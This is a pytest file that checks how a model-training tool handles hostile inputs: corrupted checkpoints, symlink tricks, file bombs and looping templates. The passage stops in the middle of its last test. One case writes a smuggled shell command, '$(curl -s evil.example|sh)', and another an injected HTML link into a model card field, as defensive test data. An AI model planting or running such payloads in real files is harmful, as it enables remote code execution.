"""The standing test for laya-policy's inputs: checkpoints to continue from and packed data, damaged
or hostile, keep the promises of ``tests/promises.py`` (a planted ``state.pt`` is in test_train.py)."""

import json
import os
import shutil
from pathlib import Path

import numpy as np
import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from laya_policy.cli import main
from laya_policy.settings import TrainConfig
from laya_policy.train import train

from ..atari_data.test_hostile_inputs import apply, edits
from ..promises import check_promises, lock_held_elsewhere, returns_within
from ..test_library_bars import bars_drawn

TRAIN = ["--steps", "1", "--batch", "2", "--image-size", "64", "--evals", "1"]


@pytest.fixture(scope="module")
def data(pong_data):
    return pong_data


@pytest.fixture(scope="module")
def checkpoint(data, tmp_path_factory):
    out = tmp_path_factory.mktemp("ckpt") / "run"
    train(
        TrainConfig(data=str(data), out=str(out), image_size=64, batch=2, steps=1, evals=1, eval_records=4),
        progress=False,
    )
    return out / "final"


CKPT_FILES = [
    "vlm_agent_config.json",
    "head.safetensors",
    "backbone/config.json",
    "backbone/model.safetensors",
    "backbone/tokenizer.json",
]


@settings(
    max_examples=6,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(which=st.sampled_from(CKPT_FILES), edit=edits)
def test_train_init_from_a_damaged_checkpoint_keeps_the_promises(data, checkpoint, tmp_path_factory, which, edit):
    box = tmp_path_factory.mktemp("box")
    ckpt, out = box / "ckpt", box / "run"
    shutil.copytree(checkpoint, ckpt)
    path = ckpt / which
    path.write_bytes(apply(path.read_bytes(), edit))
    check_promises(main, ["train", "--data", data, "--out", out, "--init-from", ckpt, *TRAIN], sandbox=box, target=out)


@pytest.mark.parametrize(
    "text",
    [
        '{"image_size": "big"}',
        "[]",
        '{"frames": 7}',
        "\xff{",
        '{"head_layers": 1000000}',
        '{"backbone": "cnn", "image_size": 4096}',  # a 4096-pixel CNN would build an 8-billion-weight layer
        '{"frames": 2, "frames": 1}',  # readers disagree on which counts: refused, not read one way
    ],
)
def test_a_broken_checkpoint_config_is_one_line(data, checkpoint, tmp_path, text):
    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    (ckpt / "vlm_agent_config.json").write_bytes(text.encode("latin-1"))
    code, err = check_promises(
        main,
        ["train", "--data", data, "--out", tmp_path / "run", "--init-from", ckpt, *TRAIN],
        sandbox=tmp_path,
        target=tmp_path / "run",
    )
    assert code == 2 and "vlm_agent_config.json" in err, err


def test_a_parquet_row_without_image_bytes_is_one_line(data, tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    from atari_data.publish.pack import PackConfig, pack

    packed = tmp_path / "packed"
    pack(PackConfig(root=str(data), out=str(packed), formats=("parquet",)))
    shard = next((packed / "data" / "expert2f" / "Pong").glob("train-*.parquet"))
    table = pq.read_table(shard)
    images = table.column("image").to_pylist()
    images[3] = {"bytes": None, "path": None}  # a row a careless writer left without its frame
    table = table.set_column(
        table.schema.get_field_index("image"), "image", pa.array(images, type=table.schema.field("image").type)
    )
    pq.write_table(table, shard)
    code, err = check_promises(
        main, ["train", "--data", packed, "--out", tmp_path / "run", *TRAIN], sandbox=tmp_path, target=tmp_path / "run"
    )
    assert code == 2 and ": expert2f/train row 3: image: has no image bytes" in err, err  # file, config, row, field


@pytest.mark.parametrize(
    "edit,field",
    [
        (lambda r: r.update(question="x"), "question"),
        (lambda r: r.pop("game"), "game"),
        (lambda r: r.update(label=99), "label"),
        (lambda r: r.update(label="x"), "label"),
        (lambda r: r.update(target=[1.0]), "target"),
    ],
)
def test_train_refuses_a_hand_edited_ready_layout_on_one_line(data, tmp_path, edit, field):
    import json

    root = tmp_path / "data"
    shutil.copytree(data, root)
    path = root / "expert2f" / "Pong" / "train.jsonl"
    rows = [json.loads(x) for x in path.read_text().splitlines()]
    edit(rows[2])
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    code, err = check_promises(
        main, ["train", "--data", root, "--out", tmp_path / "run", *TRAIN], sandbox=tmp_path, target=tmp_path / "run"
    )
    assert code == 2 and f"train.jsonl:3: {field}: " in err, err


CONFIG_EDITS = [
    ("temperatures", {"choice": [1]}),
    ("temperatures", {"choice": 10**400}),  # a 401-digit integer: float() overflows
    ("temperatures", {"choice": 0}),  # softmax(logits / 0) is NaN
    ("temperatures", {"choice": -1}),  # would silently turn the policy's preferences upside down
    ("temperatures", {"choice": "1"}),
    ("image_interpolation", ["x"]),
    ("image_interpolation", "nearest"),
    ("image_size", 128),  # the backbone's vision tower takes 64
    ("revision", [1]),
    ("temperature", 5),  # a typo for temperatures: passed over, the checkpoint played at 1 (an outside review)
]


def test_a_cnn_checkpoint_naming_a_frame_side_the_cnn_cannot_take_is_one_line(data, tmp_path):
    """A hand-edited image_size of a CNN checkpoint is refused with the file and field named, before a
    layer is built (the 512-unit layer's weights grow with its square)."""
    import json

    from laya_policy.checkpoint import CONFIG, AgentConfig, save_checkpoint
    from laya_policy.cnn import NatureCNN

    ckpt = tmp_path / "ckpt"
    save_checkpoint(NatureCNN(), AgentConfig(image_size=84, preprocess="gpu", frames=2, backbone="cnn"), ckpt)
    config = json.loads((ckpt / CONFIG).read_text())
    (ckpt / CONFIG).write_text(json.dumps({**config, "image_size": 300}))
    argv = ["train", "--data", data, "--out", tmp_path / "run", "--init-from", ckpt, "--steps", "1"]
    code, err = check_promises(main, argv, sandbox=tmp_path, target=tmp_path / "run")
    assert code == 2 and "vlm_agent_config.json: image_size 300: the cnn takes 36 to 256 pixels" in err, err


@pytest.mark.parametrize("field,value", CONFIG_EDITS)
def test_a_checkpoint_config_field_of_the_wrong_kind_or_range_is_one_line(data, checkpoint, tmp_path, field, value):
    """Each field is checked when the checkpoint loads, naming the file and field: not a traceback at the
    first decision, and never a policy that plays with NaN or inverted probabilities."""
    import json

    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    config = json.loads((ckpt / "vlm_agent_config.json").read_text())
    config[field] = value
    (ckpt / "vlm_agent_config.json").write_text(json.dumps(config))
    follow = ["--steps", "1", "--batch", "2", "--evals", "1"]  # the image size the checkpoint names
    code, err = check_promises(
        main,
        ["train", "--data", data, "--out", tmp_path / "run", "--init-from", ckpt, *follow],
        sandbox=tmp_path,
        target=tmp_path / "run",
    )
    assert code == 2 and "vlm_agent_config.json" in err and field in err, err


def _backbone_config(edit, name: str = "config.json"):
    """The checkpoint's backbone JSON file ``name``, edited in place by ``edit``."""

    def apply_to(ckpt):
        path = ckpt / "backbone" / name
        config = json.loads(path.read_text())
        edit(config)
        path.write_text(json.dumps(config))

    return apply_to


def _weights_of_nothing(ckpt):
    from safetensors.torch import save_file

    save_file({"unrelated": torch.zeros(1)}, str(ckpt / "backbone" / "model.safetensors"))


def _chat_template(text):
    def apply_to(ckpt):
        (ckpt / "backbone" / "chat_template.jinja").write_text(text)

    return apply_to


#: Backbone folders written carelessly or to harm (an outside hostile review): each played or trained
#: from random weights with exit 0, ran without bound, or was a traceback or 18 lines.
HOSTILE_BACKBONES = {
    "weights missing": (_weights_of_nothing, "missing"),
    "a layer more than the weights": (
        _backbone_config(
            lambda c: c["text_config"].update(num_hidden_layers=c["text_config"]["num_hidden_layers"] + 1)
        ),
        "missing",
    ),
    "3,000 layers": (_backbone_config(lambda c: c["text_config"].update(num_hidden_layers=3000)), "num_hidden_layers"),
    "256 layers 16,384 wide": (
        _backbone_config(lambda c: c["text_config"].update(num_hidden_layers=256, hidden_size=1 << 14)),
        "parameters",
    ),
    "hidden size 10^9": (_backbone_config(lambda c: c["text_config"].update(hidden_size=10**9)), "hidden_size"),
    "scale factor 0": (_backbone_config(lambda c: c.update(scale_factor=0)), "scale_factor"),
    "patch size 0": (_backbone_config(lambda c: c["vision_config"].update(patch_size=0)), "patch_size"),
    "a template that loops": (
        _chat_template("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"),
        "chat template",
    ),
    "a template that raises": (_chat_template('{{ raise_exception("template ran") }}'), "chat template"),
    # pushed and played to a TypeError traceback (an outside review)
    "a tokenizer without a pad token": (
        _backbone_config(lambda c: c.pop("pad_token"), "tokenizer_config.json"),
        "pad token",
    ),
    "config.json cut short": (lambda ckpt: (ckpt / "backbone" / "config.json").write_text('{"model_type": '), "config"),
    "an image token the tokenizer does not have": (
        _backbone_config(lambda c: c.update(image_token_id=7)),
        "image_token_id",
    ),
}


@pytest.mark.parametrize("case", HOSTILE_BACKBONES)
def test_a_hostile_backbone_is_one_line_before_it_plays_or_trains(data, checkpoint, tmp_path, case):
    from laya_eval.cli import main as judge

    plant, said = HOSTILE_BACKBONES[case]
    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    plant(ckpt)
    play = ["run", "--policy", f"laya:{ckpt}", *"--games Pong --episodes 1 --cap 5 --out".split(), tmp_path / "r"]
    done, (code, err) = returns_within(60, lambda: check_promises(judge, play, sandbox=tmp_path, target=tmp_path / "r"))
    assert done and code == 2 and said in err and "backbone" in err, err
    assert "hf download" not in err, "a local folder is not one to download (an outside review)"
    fit = ["train", "--data", data, "--out", tmp_path / "run", "--model", ckpt / "backbone", *TRAIN]
    done, (code, err) = returns_within(60, lambda: check_promises(main, fit, sandbox=tmp_path, target=tmp_path / "run"))
    assert done and code == 2 and said in err, err


#: A training command that sends itself SIGTERM while its state is written, ``delay`` seconds after
#: the temporary state appears and only while it is still there; prints the command's exit code.
SIGTERM_WHILE_SAVING = """
import os, signal, sys, threading, time
from laya_policy.cli import main

delay, out, argv = float(sys.argv[1]), sys.argv[2], sys.argv[3:]
tmp = os.path.join(out, ".state.pt.tmp")

def watch():
    while True:
        if os.path.exists(tmp):
            time.sleep(delay)
            if os.path.exists(tmp):
                os.kill(os.getpid(), signal.SIGTERM)
            return
        time.sleep(0.0002)

threading.Thread(target=watch, daemon=True).start()
print(main(argv), flush=True)
os._exit(0)
"""


def test_a_sigterm_while_the_state_is_written_ends_on_one_line_and_the_run_resumes(data, tmp_path):
    """A SIGTERM that landed inside torch.save broke its zip writer: a 30-line RuntimeError traceback
    ('unexpected pos'), exit 1. The state is written whole, then the stop is taken. Each run in a
    process of its own: a stop arms a fallback that ends the process a minute later. The reference
    CNN at 96 px: its state (26 MB, twice the tiny VLM's) gives the delays more of the write to land
    in, and its processes start without transformers."""
    import subprocess
    import sys

    codes = []
    for delay in (0.0, 0.003, 0.006, 0.012):  # after the file appears: torch.save's zip writer is open by then
        out = tmp_path / f"run-{delay}"
        argv = ["train", "--data", str(data), "--out", str(out), "--model", "cnn", "--image-size", "96"]
        argv += ["--steps", "1", "--batch", "2", "--evals", "1"]
        done = subprocess.run(
            [sys.executable, "-c", SIGTERM_WHILE_SAVING, str(delay), str(out), *argv],
            capture_output=True,
            text=True,
            timeout=300,
        )
        code = int(done.stdout.split()[-1]) if done.stdout.split() else done.returncode
        err = done.stderr
        assert code in (0, 143) and err.count("\n") == (code == 143), (delay, code, err[-3000:])  # 0: it missed
        assert main(argv) == 0, "the state resumes"
        codes.append(code)
    # all four landed inside the write when measured; none would leave the test checking nothing
    assert 143 in codes, f"no SIGTERM landed inside a save: {codes}"


def test_a_run_that_diverges_stops_on_one_line_and_writes_no_nan(data, tmp_path):
    """At a learning rate of 1e30 the loss became NaN: log.jsonl got "nll": NaN (not JSON), the
    state a NaN best its own resume refused, and a run without a stop ended with exit 0 and NaN weights."""
    out = tmp_path / "run"
    argv = ["train", "--data", data, "--out", out, "--lr-head", "1e30", "--lr-backbone", "1e30"]
    code, err = check_promises(
        main,
        [*argv, "--steps", "4", "--batch", "2", "--image-size", "64", "--evals", "2"],
        sandbox=tmp_path,
        target=out,
    )
    assert code == 2 and "diverged" in err and "--lr-" in err, err
    log = out / "log.jsonl"
    if log.exists():
        for line in log.read_text().splitlines():
            json.loads(line, parse_constant=lambda c: pytest.fail(f"{c} in log.jsonl"))
    assert not (out / "final").exists() and not (out / "summary.json").exists()


def test_an_out_that_is_a_link_is_refused_and_dot_is_the_folder_it_names(data, tmp_path, monkeypatch):
    """Through a link, a second run took a lock of another name and trained into the same folder at
    once (log steps 400 400 800 800); --out . was "PosixPath('.') has an empty name"."""
    (tmp_path / "L").mkdir()
    (tmp_path / "alias").symlink_to(tmp_path / "L")
    argv = ["train", "--data", data, "--out", tmp_path / "alias", *TRAIN]
    code, err = check_promises(main, argv, sandbox=tmp_path, target=tmp_path / "L")
    assert code == 2 and "symbolic link" in err and "--out" in err, err
    monkeypatch.chdir(tmp_path / "L")
    assert main(["train", "--data", str(data), "--out", ".", *TRAIN]) == 0
    assert (tmp_path / "L" / "final").is_dir() and not list(tmp_path.glob(".*.lock"))


@pytest.mark.parametrize("part", ["best", "final"])
def test_a_folder_of_a_checkpoints_name_that_is_not_one_is_never_replaced(data, tmp_path, part):
    """train --out DIR deleted DIR/best/ (a user's notes.txt) to write its checkpoint there."""
    out = tmp_path / "run"
    (out / part).mkdir(parents=True)
    (out / part / "notes.txt").write_text("mine")
    code, err = check_promises(main, ["train", "--data", data, "--out", out, *TRAIN], sandbox=tmp_path, target=out)
    assert code == 2 and f"{part}: is not a checkpoint" in err, err
    assert (out / part / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("restart", [False, True], ids=["fresh", "restart"])
@pytest.mark.parametrize(
    "name,text",
    [
        ("log.jsonl", "2026-12-01 my experiment notes\n"),
        ("log.jsonl", "my notes, no newline"),
        ("summary.json", '{"mine": true}\n'),
        ("log.jsonl", "[1]\n"),
    ],
)
def test_a_log_or_summary_that_no_run_wrote_is_never_replaced(data, tmp_path, name, text, restart):
    """A fresh run (and --restart) into a folder holding someone's log.jsonl deleted it, and the
    summary.json it writes at the end replaced theirs."""
    out = tmp_path / "run"
    out.mkdir()
    (out / name).write_text(text)
    argv = ["train", "--data", data, "--out", out, *TRAIN, *(["--restart"] if restart else [])]
    code, err = check_promises(main, argv, sandbox=tmp_path, target=out)
    assert code == 2 and f"{name}: " in err and "not written by a training run" in err, err
    assert (out / name).read_text() == text and sorted(p.name for p in out.iterdir()) == [name]


def test_a_run_restarted_replaces_its_own_log_and_summary(data, tmp_path):
    """What the refusal above must not catch: a run's own files, as it wrote them, and a log whose
    last line was cut short (a kill or a full disk mid-append), which its resume rewrites."""
    out = tmp_path / "run"
    argv = ["train", "--data", str(data), "--out", str(out), *TRAIN]
    assert main(argv) == 0
    (out / "state.pt").unlink()  # as a run killed before its first state save leaves it
    assert main(argv) == 0 and main([*argv, "--restart"]) == 0
    assert len((out / "log.jsonl").read_text().splitlines()) == 1
    with open(out / "log.jsonl", "a") as f:
        f.write('{"step": 3, "minutes": 0.01, "ga')
    assert main(argv) == 0, "resumed: the state knows its log"
    assert [json.loads(line)["step"] for line in (out / "log.jsonl").read_text().splitlines()] == [1]


def test_an_out_reached_through_a_link_and_dotdot_is_the_folder_the_kernel_writes(data, tmp_path):
    """``--out t/x/..`` with t/x a link to other/y: the lock and the checks took t (text), the files
    went to other (the kernel follows x, then ..), and replaced a user's log.jsonl there."""
    (tmp_path / "other" / "y").mkdir(parents=True)
    (tmp_path / "other" / "log.jsonl").write_text("my notes\n")
    (tmp_path / "t").mkdir()
    (tmp_path / "t" / "x").symlink_to(tmp_path / "other" / "y")
    argv = ["train", "--data", data, "--out", f"{tmp_path}/t/x/..", *TRAIN]
    code, err = check_promises(main, argv, sandbox=tmp_path, target=tmp_path / "other")
    assert code == 2 and "other/log.jsonl: is not written by a training run" in err, err
    assert (tmp_path / "other" / "log.jsonl").read_text() == "my notes\n"


def test_the_judge_refuses_a_checkpoint_whose_temperature_is_zero(checkpoint, tmp_path):
    """Through laya-eval's entry point, as a user plays a downloaded checkpoint: one line, exit 2."""
    import json

    from laya_eval.cli import main as judge

    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    config = json.loads((ckpt / "vlm_agent_config.json").read_text())
    config["temperatures"] = {"choice": 0.0}
    (ckpt / "vlm_agent_config.json").write_text(json.dumps(config))
    argv = ["run", "--policy", f"laya:{ckpt}", "--games", "Pong", "--episodes", "1", "--out", tmp_path / "res"]
    code, err = check_promises(judge, argv, sandbox=tmp_path, target=tmp_path / "res")
    assert code == 2 and "temperatures.choice" in err, err


@pytest.mark.parametrize(
    "which,plant",
    [
        ("backbone/config.json", "huge"),  # transformers read 3 GB of it into memory: a MemoryError
        ("backbone/tokenizer.json", "huge"),
        ("backbone/tokenizer.json", "fifo"),  # open() waited for a writer that never comes
        ("head.safetensors", "fifo"),
    ],
)
def test_a_huge_file_or_a_fifo_in_a_checkpoint_is_one_line_before_it_is_read(data, checkpoint, tmp_path, which, plant):
    import os

    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    path = ckpt / which
    path.unlink()
    if plant == "fifo":
        os.mkfifo(path)
    else:
        with open(path, "wb") as f:  # sparse: 65 MB that take no disk
            f.truncate(65 << 20)
    argv = ["train", "--data", data, "--out", tmp_path / "run", "--init-from", ckpt, *TRAIN]
    done, got = returns_within(
        120, lambda: check_promises(main, argv, sandbox=tmp_path, target=tmp_path / "run"), [path] * (plant == "fifo")
    )
    assert done, f"train waited on the {plant} {which}"
    code, err = got
    why = "regular file" if plant == "fifo" else "bytes"
    assert code == 2 and which in err and why in err, err


@pytest.mark.parametrize("how", ["linked", "missing"])
def test_a_backbone_folder_linked_or_missing_is_one_line_and_never_the_hubs(data, checkpoint, tmp_path, how):
    """From an outside review: a backbone/ that links to a folder elsewhere was loaded without the
    checks every file of a checkpoint gets (its files' sizes; rglob does not enter a linked folder),
    and the fingerprint a judge records left it out; a checkpoint without backbone/ asked the Hub for
    a repo named after the folder ('ckpt/backbone'), five tries, then said to download it."""
    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    if how == "linked":
        elsewhere = tmp_path / "elsewhere"
        (ckpt / "backbone").rename(elsewhere)
        (ckpt / "backbone").symlink_to(elsewhere, target_is_directory=True)
        (elsewhere / "tokenizer.json").unlink()
        with open(elsewhere / "tokenizer.json", "wb") as f:  # sparse: 65 MB past the cap, no disk
            f.truncate(65 << 20)
    else:
        shutil.rmtree(ckpt / "backbone")
    argv = ["train", "--data", data, "--out", tmp_path / "run", "--init-from", ckpt, *TRAIN]
    code, err = check_promises(main, argv, sandbox=tmp_path, target=tmp_path / "run")
    said = "a link to a folder" if how == "linked" else "no such folder"
    assert code == 2 and f"{ckpt / 'backbone'}: " in err and said in err and "hf download" not in err, err


def test_train_never_writes_through_a_link_planted_in_its_out_folder(data, checkpoint, tmp_path):
    """torch.save, the log's temporary file and summary.json followed links: a planted one overwrote
    files outside --out (an outside hostile review)."""
    run = tmp_path / "run"
    shutil.copytree(checkpoint.parent, run)
    victims = {}
    for name in ("summary.json", ".state.pt.tmp", ".log.jsonl.tmp", ".final.tmp", ".best.tmp"):
        victim = tmp_path / f"victim{name}"
        victim.write_text("ORIGINAL\n")
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(victim)
        victims[victim] = name
    code, err = check_promises(main, ["train", "--data", data, "--out", run, *TRAIN], sandbox=tmp_path, target=run)
    assert code == 0, err
    for victim, name in victims.items():
        assert victim.read_text() == "ORIGINAL\n", f"written through the link {name}"
    assert not (run / "summary.json").is_symlink() and (run / "summary.json").is_file()


@pytest.mark.parametrize(
    "flags,field",
    [
        (["--evals", "100000000000"], None),  # building the evaluation steps never ended; now one a step
        (["--evals", "0"], "--evals"),
        (["--batch", "0"], "--batch"),
        (["--batch", "-2"], "--batch"),
        (["--lr-head", "nan"], "--lr-head"),  # trained to a checkpoint of NaN weights
        (["--lr-backbone", "-1"], "--lr-backbone"),
        (["--max-minutes", "nan"], "--max-minutes"),  # turned the time budget off
        (["--passes", "0"], "--passes"),
        (["--device", "bogus"], "--device"),
        (["--device", "mps"], "--device"),  # torch knows it; it failed at the first tensor
    ],
)
def test_train_flags_out_of_range_are_one_line_before_any_work(data, tmp_path, flags, field):
    argv = ["train", "--data", data, "--out", tmp_path / "run", "--steps", "1", "--image-size", "64", *flags]
    done, got = returns_within(60, lambda: check_promises(main, argv, sandbox=tmp_path, target=tmp_path / "run"))
    assert done, f"{flags} ran on"
    code, err = got
    assert (code == 0) if field is None else (code == 2 and field in err), err


@pytest.mark.parametrize(
    "flags,field",
    [
        (["--decision-cap", "0"], "--decision-cap"),  # an episode of 0 decisions: generate looped for ever
        (["--decision-cap", "-1"], "--decision-cap"),
        (["--train-frames", "-1"], "--train-frames"),
        (["--seed", "-1"], "--seed"),
        (["--workers", "-1"], "--workers"),
        (["--baseline-episodes", "-1"], "--baseline-episodes"),
    ],
)
def test_generate_flags_out_of_range_are_one_line(tmp_path, flags, field):
    from atari_data.cli import main as data_main

    argv = ["generate", "--root", tmp_path / "d", "--games", "Pong", "--train-frames", "4", "--val-frames", "2"]
    argv += ["--baseline-episodes", "0", *flags]
    done, got = returns_within(60, lambda: check_promises(data_main, argv, sandbox=tmp_path, target=tmp_path / "d"))
    assert done, f"{flags} ran on"
    code, err = got
    assert code == 2 and field in err, err


def test_a_second_train_into_the_same_out_is_refused_while_the_first_runs(data, tmp_path):
    """Two runs wrote one folder: one died on the other's temporary checkpoint, and the log held both
    runs' lines (an outside hostile review). The first holds OUT's lock, as laya-eval run does."""

    out = tmp_path / "run"
    lock = tmp_path / ".run.lock"
    argv = ["train", "--data", data, "--out", out, *TRAIN]
    with lock_held_elsewhere(lock) as pid:  # another train holds the folder, as train() takes it
        code, err = check_promises(main, argv, sandbox=tmp_path, target=out)
        assert code == 2 and f"pid {pid}" in err and not out.exists(), err
    code, err = check_promises(main, argv, sandbox=tmp_path, target=out)
    assert code == 0 and (out / "final").is_dir() and not lock.exists(), err


@pytest.mark.parametrize(
    "edit,field",
    [
        (lambda r: r.update(target=[float("nan")] * len(r["actions"])), "target"),  # trained to NaN weights
        (lambda r: r.update(target=[1 / 30] * 30), "target"),  # a RuntimeError in the loss
        (lambda r: r.update(label=99, target=None), "label"),  # an IndexError
        (lambda r: r.update(question="[1, 2]"), "question"),  # a TypeError
        (lambda r: r.update(episode=None), "episode"),  # a KeyError
        (lambda r: r.update(actions=[]), "actions"),
    ],
)
def test_train_checks_every_packed_row_as_the_validator_checks_a_record(data, tmp_path, edit, field):
    """A layout's records were checked by the record rules; a packed repository's rows were not."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from atari_data.publish.pack import PackConfig, pack

    packed = tmp_path / "packed"
    pack(PackConfig(root=str(data), out=str(packed), formats=("parquet",)))
    shard = next((packed / "data" / "expert2f" / "Pong").glob("train-*.parquet"))
    table = pq.read_table(shard)
    rows = table.to_pylist()
    edit(rows[3])
    pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), shard)
    code, err = check_promises(
        main, ["train", "--data", packed, "--out", tmp_path / "run", *TRAIN], sandbox=tmp_path, target=tmp_path / "run"
    )
    assert code == 2 and ": expert2f/train row 3: " in err and f": {field}" in err, err


@pytest.mark.parametrize(
    "field,value",
    [
        ("groups", [1, 2]),
        ("sources", "expert2f"),
        ("data", ["x"]),
        ("data_on_hub", "yes"),
        ("steps_done", []),
        # written into the card as they were (an outside review): a shell command in the card's own
        # example, HTML, a new paragraph, NaN published as it stood
        ("groups", ["Pong $(curl -s evil.example|sh)"]),
        ("sources", ["expert2f\n\n<a href='https://evil.example'>weights</a>"]),
        ("freeze", "none\n\n# Download here"),
        ("minutes", float("nan")),
    ],
)
def test_push_refuses_a_hand_edited_training_json_on_one_line(checkpoint, tmp_path, field, value):
    """groups [1, 2] was a TypeError out of the model card's join."""
    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    training = json.loads((ckpt / "training.json").read_text())
    training[field] = value
    (ckpt / "training.json").write_text(json.dumps(training))
    stage = tmp_path / "stage"
    code, err = check_promises(
        main, ["push", ckpt, "--repo", "me/x", "--dry-run", stage], sandbox=tmp_path, target=stage
    )
    assert code == 2 and "training.json" in err and field in err, err


def test_push_takes_the_freeze_an_older_train_wrote(checkpoint, tmp_path):
    """train once wrote --freeze as given ("auto"): the check on what the card shows refused it (an
    outside read)."""
    ckpt = tmp_path / "ckpt"
    shutil.copytree(checkpoint, ckpt)
    training = json.loads((ckpt / "training.json").read_text())
    (ckpt / "training.json").write_text(json.dumps({**training, "freeze": "auto"}))
    assert main(["push", str(ckpt), "--repo", "me/x", "--dry-run", str(tmp_path / "stage")]) == 0


def test_push_never_removes_a_folder_it_did_not_make(checkpoint, tmp_path):
    """A folder of the staging name beside the target, .stage.staging, was removed whole (rmtree)."""
    mine = tmp_path / ".stage.staging"
    mine.mkdir()
    (mine / "notes.txt").write_text("precious\n")
    stage = tmp_path / "stage"
    code, err = check_promises(
        main, ["push", checkpoint, "--repo", "me/x", "--dry-run", stage], sandbox=tmp_path, target=stage
    )
    assert code == 2 and ".stage.staging" in err and (mine / "notes.txt").read_text() == "precious\n", err


@pytest.mark.parametrize("license", ["", "not a license <b>"])
def test_push_refuses_a_license_the_card_cannot_carry(checkpoint, tmp_path, license):
    stage = tmp_path / "stage"
    code, err = check_promises(
        main,
        ["push", checkpoint, "--repo", "me/x", "--dry-run", stage, "--license", license],
        sandbox=tmp_path,
        target=stage,
    )
    assert code == 2 and "--license" in err, err


def test_train_refuses_a_packed_parquet_dictionary_bomb_before_datasets_expands_it(data, tmp_path):
    from atari_data.publish.pack import PackConfig, pack

    from ..atari_data.test_hostile_inputs import dictionary_bomb

    packed = tmp_path / "packed"
    pack(PackConfig(root=str(data), out=str(packed), formats=("parquet",)))
    shard = dictionary_bomb(packed)
    code, err = check_promises(
        main, ["train", "--data", packed, "--out", tmp_path / "run", *TRAIN], sandbox=tmp_path, target=tmp_path / "run"
    )
    assert code == 2 and shard.name in err and "inflates" in err, err


def test_train_checks_and_reads_only_the_configs_it_trains_on(data, tmp_path):
    """A packed folder with a second source whose shard is a dictionary bomb: train on the first
    source reads and checks that source's files alone (one game of a 57-game folder costs that
    game's files), and refuses the bomb once it is asked for."""
    from atari_data.publish.pack import PackConfig, pack

    from ..atari_data.test_hostile_inputs import dictionary_bomb

    packed = tmp_path / "packed"
    pack(PackConfig(root=str(data), out=str(packed), formats=("parquet",)))
    source = next((packed / "data").iterdir()).name
    shutil.copytree(packed / "data" / source, packed / "data" / "other")
    shard = dictionary_bomb(packed, source="other")
    card = (packed / "README.md").read_text()
    other = (
        "- config_name: other\n  data_files:\n  - split: train\n    path: data/other/*/train-*.parquet\n"
        "  - split: validation\n    path: data/other/*/validation-*.parquet\n"
    )
    (packed / "README.md").write_text(card.replace("dataset_info:\n", other + "dataset_info:\n", 1))
    out = tmp_path / "run"
    assert main(["train", "--data", str(packed), "--sources", source, "--out", str(out), *TRAIN]) == 0
    code, err = check_promises(
        main,
        ["train", "--data", packed, "--sources", "other", "--out", tmp_path / "run2", *TRAIN],
        sandbox=tmp_path,
        target=tmp_path / "run2",
    )
    assert code == 2 and shard.name in err and "inflates" in err, err


@pytest.mark.parametrize(
    "edit",
    [
        lambda st: st.update(log=["x"]),  # a TypeError
        lambda st: st.update(log=[{}]),  # a KeyError
        lambda st: st.update(log=[torch.zeros(1)]),  # not JSON: the log could not be rewritten
        lambda st: st.update(counts={}),  # a KeyError at the first draw
        lambda st: st.update(best="x"),
        lambda st: st.update(best={"nll": "a", "step": 0}),
        lambda st: st.update(step=-(10**6)),  # trained on past its plan
        lambda st: st.update(step=10**30),  # "1e30 steps", exit 0
        lambda st: st.update(step=1.5),
        lambda st: st.update(spent=float("nan")),  # turned the time budget off
        lambda st: st.update(spent=float("-inf")),
        lambda st: st.update(curve="abc"),
        # a stride-0 view of a million: stored as one number, made dense by the optimiser's load
        lambda st: st["opt"]["state"][0].update(exp_avg=torch.zeros(1, dtype=torch.float64).expand(1_000_000)),
        lambda st: st["opt"]["state"][0].update(exp_avg="x"),
        lambda st: st["opt"].update(state={10**6: {}}),
        # the optimiser's settings are the run's, not the file's: each crashed the first step
        lambda st: st["opt"]["param_groups"][0].update(betas="ab"),
        lambda st: st["opt"]["param_groups"][0].update(eps=-1.0),
        lambda st: st["opt"]["param_groups"][0].update(capturable=True),
        lambda st: st["opt"]["param_groups"][0].update(differentiable=True),
        lambda st: st["opt"]["state"][0].update(step=torch.tensor(float("nan"))),
        # from an outside review, with the fused optimiser: a traceback at the first step, NaN weights
        # trained on silently, and a native crash ("double free or corruption")
        lambda st: st["opt"]["state"][0].update(step=torch.tensor(3, dtype=torch.int64)),
        lambda st: st["opt"]["state"][0].update(step=torch.tensor(True)),
        lambda st: st["opt"]["state"][0].update(exp_avg=torch.tensor(0.5)),
        lambda st: st["opt"]["state"][0].update(exp_avg_sq=st["opt"]["state"][0]["exp_avg_sq"].double()),
        lambda st: st["opt"]["param_groups"][0].update(params=st["opt"]["param_groups"][0]["params"][::-1]),
        lambda st: [e.update(exp_avg=torch.zeros(1).expand(e["exp_avg"].shape)) for e in st["opt"]["state"].values()],
        lambda st: [
            e.update(exp_avg=e["exp_avg"].t().contiguous().t())
            for e in st["opt"]["state"].values()
            if e["exp_avg"].dim() == 2 and e["exp_avg"].shape[0] != e["exp_avg"].shape[1]
        ],
        # NaN weights were taken and trained on to NaN weights, exit 0 (an outside hostile review)
        lambda st: next(iter(st["model"].values())).fill_(float("nan")),
        lambda st: next(iter(st["opt"]["state"].values()))["exp_avg_sq"].fill_(float("inf")),
    ],
)
def test_a_state_pt_of_the_wrong_shape_is_one_line(data, checkpoint, tmp_path, edit):
    run = tmp_path / "run"
    shutil.copytree(checkpoint.parent, run)
    state = torch.load(run / "state.pt", weights_only=True)
    edit(state)
    torch.save(state, run / "state.pt")
    argv = ["train", "--data", data, "--out", run, *TRAIN]
    done, got = returns_within(60, lambda: check_promises(main, argv, sandbox=tmp_path, target=run))
    assert done, "ran on past its plan"
    code, err = got
